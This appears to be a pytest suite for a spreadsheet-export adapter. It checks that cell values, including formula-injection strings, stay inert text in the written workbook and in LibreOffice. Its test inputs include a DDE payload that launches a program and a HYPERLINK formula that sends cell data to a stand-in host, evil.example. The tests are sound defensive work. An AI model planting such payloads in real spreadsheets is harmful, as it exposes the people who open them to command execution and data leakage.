"""Workbooks as other programs read them: every cell the text that was given, whatever that was."""

import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.adapters.sheets import LONGEST, Sheets, clean, copied
from tests.exported import sheets_of
from tests.office import as_office_shows

AT = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
HOSTILE = [
    pytest.param("=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0", id="a program"),
    pytest.param('=HYPERLINK("http://evil.example?"&A1)', '=HYPERLINK("http://evil.example?"&A1)', id="a link"),
    pytest.param("+85291234567", "+85291234567", id="a phone of Hong Kong"),
    pytest.param("-1+1", "-1+1", id="a minus"),
    pytest.param("@SUM(1)", "@SUM(1)", id="an at sign"),
    pytest.param("\t=1+1", "\t=1+1", id="a tab before it"),
    pytest.param("11010519491231002X", "11010519491231002X", id="an ID number"),
    pytest.param("110105194912310021", "110105194912310021", id="18 digits"),
    pytest.param("007", "007", id="zeros before"),
    pytest.param("1E5", "1E5", id="a number with an exponent"),
    pytest.param("2026-02-29", "2026-02-29", id="a day"),
    pytest.param("TRUE", "TRUE", id="a truth"),
    pytest.param("#N/A", "#N/A", id="an error"),
    pytest.param("a\x00b\x0bc\x1f\x7f\x85d", "abcd", id="controls"),
    pytest.param("\u202e张三\u2066\u200f", "张三", id="another direction"),
    pytest.param("一行\r\n二行\r三行", "一行\n二行\n三行", id="lines"),
    pytest.param("  两边  ", "  两边  ", id="spaces around"),
    pytest.param("😀👨‍👩‍👧", "😀👨‍👩‍👧", id="emoji"),
    pytest.param("\ud800张\udfff", "张", id="half characters"),
    pytest.param("a\ufffe\uffffb", "ab", id="no characters"),
    pytest.param("_x000D_", "_x000D_", id="an escape of spreadsheets"),
    pytest.param("_x005F_x000D_", "_x005F_x000D_", id="an escape of that escape"),
    pytest.param("<b>&amp;]]></t>", "<b>&amp;]]></t>", id="markup"),
    pytest.param("长" * 40_000, "长" * LONGEST, id="more than a cell holds"),
    pytest.param("😀" * 20_000, "😀" * (LONGEST // 2), id="more emoji than a cell holds"),
    pytest.param("𠮷田", "𠮷田", id="a rare character"),
]


def written(rows: list[list[str]], columns: tuple[str, ...] = ("甲", "乙"), most_rows: int = 1000) -> bytes:
    """A copy of a workbook of these rows."""
    stored = bytearray()
    book = Sheets(stored.extend, columns, [10] * len(columns), AT, most_rows)
    for cells in rows:
        book.append(cells)
    directory = book.close()
    return bytes(stored) + copied(len(stored), directory, [("大厅", "=1+1"), ("用途", "检查")], AT)


@pytest.mark.parametrize(("text", "expected"), HOSTILE)
def test_a_cell_is_read_as_the_text_that_it_is(text: str, expected: str) -> None:
    assert sheets_of(written([[text, "尾"]]))["数据"][1] == [expected, "尾"]


@given(st.lists(st.tuples(st.text(), st.text(max_size=5)), min_size=1, max_size=8))
def test_whatever_the_texts_are_another_reader_reads_them_all(rows: list[tuple[str, str]]) -> None:
    read = sheets_of(written([list(row) for row in rows], most_rows=3))
    data = [row for name, sheet in read.items() if name.startswith("数据") for row in sheet[1:]]
    width = max(len(row) for row in data) if data else 0
    expected = [[clean(text) for text in row][:width] for row in rows]
    # Whoever reads leaves out empty rows at the end of a sheet and empty columns at its side.
    found = [row for row in data if any(row)]
    assert found == [row for row in expected if any(row)]


def test_every_cell_is_text_by_type_and_by_format() -> None:
    book = openpyxl.load_workbook(io.BytesIO(written([["=1+1", ""], ["18", "x"]])))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.number_format for cell in cells} == {"@"}
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}


def test_the_second_sheet_tells_of_the_copy() -> None:
    read = sheets_of(written([["a", "b"]]))
    assert list(read) == ["数据", "说明"]
    assert read["说明"] == [["大厅", "=1+1"], ["用途", "检查"]]


@pytest.mark.parametrize(
    ("rows", "sheets"),
    [
        pytest.param(0, ["数据", "说明"], id="none"),
        pytest.param(4, ["数据", "说明"], id="as many as fit"),
        pytest.param(5, ["数据", "说明", "数据2"], id="one more"),
        pytest.param(13, ["数据", "说明", "数据2", "数据3", "数据4"], id="many"),
    ],
)
def test_rows_that_do_not_fit_go_on_further_sheets_and_none_is_lost(rows: int, sheets: list[str]) -> None:
    read = sheets_of(written([[str(number), "x"] for number in range(rows)], most_rows=4))
    assert list(read) == sheets
    data = [read[name] for name in sheets if name != "说明"]
    assert all(sheet[0] == ["甲", "乙"] for sheet in data)
    assert [row[0] for sheet in data for row in sheet[1:]] == [str(number) for number in range(rows)]


def test_an_archive_without_faults() -> None:
    with zipfile.ZipFile(io.BytesIO(written([["a", "b"]] * 9, most_rows=4))) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
    assert len(names) == len(set(names))


def test_the_same_copy_is_the_same_bytes_and_another_one_shares_the_stored_part() -> None:
    stored = bytearray()
    book = Sheets(stored.extend, ("甲",), [10], AT)
    book.append(["张三"])
    directory = book.close()
    one, again, other = (
        copied(len(stored), directory, [("用途", purpose)], AT) for purpose in ("检查", "检查", "统计")
    )
    assert one == again != other


def test_a_workbook_is_written_without_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    opened: list[str] = []
    stored = bytearray()
    book = Sheets(stored.extend, ("甲",), [10], AT)
    for number in range(3000):
        book.append([f"{number}"])
        opened += [str(path) for path in tmp_path.rglob("*")] if number % 500 == 0 else []
    book.close()
    assert opened == [] and list(tmp_path.rglob("*")) == []


@pytest.fixture(scope="module")
def converted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[list[str]]]:
    """The workbook of hostile texts as LibreOffice shows it, and whether it takes any for a formula."""
    place = tmp_path_factory.mktemp("office")
    rows = [[param.values[0], "尾"] for param in HOSTILE if len(param.values[0]) < 1000]
    (place / "file.xlsx").write_bytes(written(rows))
    return as_office_shows(place / "file.xlsx")


def test_libreoffice_shows_every_text_as_it_is_and_computes_none(converted: dict[str, list[list[str]]]) -> None:
    expected = [param.values[1] for param in HOSTILE if len(param.values[0]) < 1000]
    for name in ("shown", "formulas"):
        read = [re.sub("\r\n?", "\n", row[0]) for row in converted[name][1:]]
        assert read == expected, name
